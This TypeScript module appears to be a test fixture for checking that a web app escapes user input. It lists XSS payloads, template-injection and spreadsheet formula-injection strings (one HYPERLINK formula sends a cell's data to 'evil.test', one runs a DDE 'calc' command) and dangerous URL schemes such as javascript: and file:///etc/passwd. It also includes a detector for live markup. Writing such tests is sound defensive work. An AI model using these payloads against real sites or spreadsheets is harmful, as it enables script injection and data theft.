/** Sets `pwned` wherever it runs. */
const code = 'window.pwned=1'

/** Short texts that are code to whoever forgets to escape, in the place where it is forgotten. */
const payloads = [
  `<script>${code}</script>`,
  `</script><script>${code}</script>`,
  `</script/x ><img/src/onerror=${code} `,
  `</title></style></textarea><img src=x onerror=${code}>`,
  `"><svg onload=${code}>`,
  `' onfocus='${code}' autofocus='`,
  `<!--><img src=x onerror=${code}>-->`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  `&lt;img src=x onerror=${code}&gt;&#60;b&#62;`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<a href="javascript:${code}">`,
  `javascript:${code}`,
  `{{constructor.constructor('${code}')()}}`,
  `<style>@import'//evil.test/'</style><base href=//evil.test>`,
  `<form action=//evil.test><button>`,
  "\u202egpj.exe\u2028\u2029\ufeff%3Cscript%3E\\u003cscript\\u003e$&$'$`",
]

/** All of them, for fields that hold much. */
export const hostileText = payloads.join('\n')

/** As many as go into a field of `most` characters each, until all have been in one. */
export function hostileTexts(most: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < most)
      texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}

/** Cells that a spreadsheet computes, in one way of reading the table or another. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  "=cmd|'/C calc'!A0",
  '\t=1+1',
  ' \n=1+1',
  '＝1+1',
  'calm;=1+1',
  'calm\t=1+1',
  'calm\n=1+1',
  'calm"\n"=1+1',
  '","=1+1',
]

/** Addresses that run, and must never be stored. */
export const runningAddresses = [
  `javascript:${code}`,
  ` \tJaVaScRiPt:${code}`,
  `java\nscript:${code}`,
  `\u0001javascript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`,
  `blob:http://evil.test/x`,
  `file:///etc/passwd`,
  `//evil.test/x`,
  `javascript://example.com/%0a${code}`,
]

/** Addresses that may be stored, and would run for whoever puts them into markup as they are. */
export const hostileAddresses = [
  `https://images.test/"><img src=x onerror=${code}>`,
  `https://images.test/' onerror='${code}`,
  `https://images.test/) javascript:${code}`,
]

/**
 * The parts of a document that run or lead to what runs, as markup. Runs in a browser, which gets its source: it may use
 * nothing but its own words.
 */
export function liveParts(root: Document): string[] {
  const addressAttributes = [
    'href',
    'src',
    'action',
    'formaction',
    'xlink:href',
    'poster',
    'data',
    'background',
    'ping',
  ]
  const wrong: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName
    const isWrong =
      ['object', 'embed', 'base', 'frame', 'applet', 'portal'].includes(name) ||
      (name === 'meta' && element.hasAttribute('http-equiv')) ||
      (name === 'script' &&
        !/^\/assets\//.test(element.getAttribute('src') ?? '') &&
        !/^application\/(?:ld\+)?json$/.test(element.getAttribute('type') ?? '')) ||
      (name === 'iframe' &&
        !/^https:\/\/www\.youtube-nocookie\.com\//.test(element.getAttribute('src') ?? '')) ||
      [...element.attributes].some(({ name: attribute, value }) => {
        if (attribute.startsWith('on') || attribute === 'srcdoc') return true
        if (!addressAttributes.includes(attribute)) return false
        const { protocol } = new URL(value, 'https://own.test/')
        return !['http:', 'https:'].includes(protocol) && !(name === 'img' && /^data:image\//.test(value))
      })
    if (isWrong) wrong.push((element.cloneNode(false) as Element).outerHTML.slice(0, 300))
  }
  for (const block of root.querySelectorAll('script[type$=json]')) {
    try {
      JSON.parse(block.textContent ?? '')
    } catch {
      wrong.push(`no JSON: ${block.textContent?.slice(0, 300)}`)
    }
  }
  return wrong
}
